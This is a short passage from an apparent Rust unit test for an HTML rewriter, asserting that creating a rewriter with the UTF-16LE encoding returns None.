        assert!(rewriter(origin(), ticket(), encoding_rs::UTF_16LE, |_: &[u8]| {}).is_none());
    }
}
